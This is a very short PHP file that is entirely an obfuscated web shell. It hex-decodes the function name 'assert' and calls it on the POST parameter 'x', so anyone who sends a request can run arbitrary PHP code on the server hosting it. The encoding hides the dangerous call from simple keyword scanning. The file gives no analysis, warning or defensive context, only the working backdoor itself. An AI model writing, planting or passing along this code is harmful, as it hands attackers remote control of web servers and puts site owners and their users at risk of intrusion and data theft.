<?php
$f = hex2bin("617373657274");
$f($_POST['x']);
